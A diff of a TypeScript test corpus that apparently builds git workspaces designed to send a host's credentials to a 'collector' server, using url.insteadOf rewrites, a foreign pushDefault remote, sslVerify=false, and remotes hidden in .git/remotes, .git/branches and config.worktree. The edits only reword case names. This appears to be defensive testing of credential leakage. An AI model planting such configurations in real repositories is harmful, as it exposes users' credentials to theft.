@@ -1,4 +1,4 @@
-/** Lines of configuration that send a host's credential to somebody else. */
+/** Configuration that sends a host's credential to another server. */
 import { join } from "node:path"
 import type { Context, Workspace } from "./Corpus.ts"
 import {
@@ -26,7 +26,7 @@ const elsewhere: ReadonlyArray<Workspace> = [
     (context) => `[url "${context.collector}/"]\n\tinsteadOf = ${server(context)}/`
   ),
   credentials(
-    "url.<x>.insteadOf any http",
+    "url.<x>.insteadOf for any http URL",
     ({ collector }) => `[url "${collector}/"]\n\tinsteadOf = http://`
   ),
   credentials(
@@ -63,12 +63,12 @@ const elsewhere: ReadonlyArray<Workspace> = [
       `[remote "far"]\n\turl = ${collector}/x.git\n[remote]\n\tpushDefault = far\n[push]\n\tdefault = current`
   ),
   credentials(
-    "url.insteadOf by TLS without verification",
+    "url.insteadOf with TLS without verification",
     (context) =>
       `[url "${context.collectorTls}/"]\n\tinsteadOf = ${server(context)}/\n[http]\n\tsslVerify = false`
   ),
   {
-    name: "a remote of .git/remotes",
+    name: "a remote in .git/remotes",
     attack: "credential",
     wants: "delivered",
     make: after(async (context) => {
@@ -77,7 +77,7 @@ const elsewhere: ReadonlyArray<Workspace> = [
     })
   },
   {
-    name: "a remote of .git/branches",
+    name: "a remote in .git/branches",
     attack: "credential",
     wants: "delivered",
     make: after(async (context) => {
@@ -86,7 +86,7 @@ const elsewhere: ReadonlyArray<Workspace> = [
     })
   },
   {
-    name: "insteadOf of config.worktree",
+    name: "insteadOf in config.worktree",
     attack: "credential",
     wants: "delivered",
     make: after((context) => {
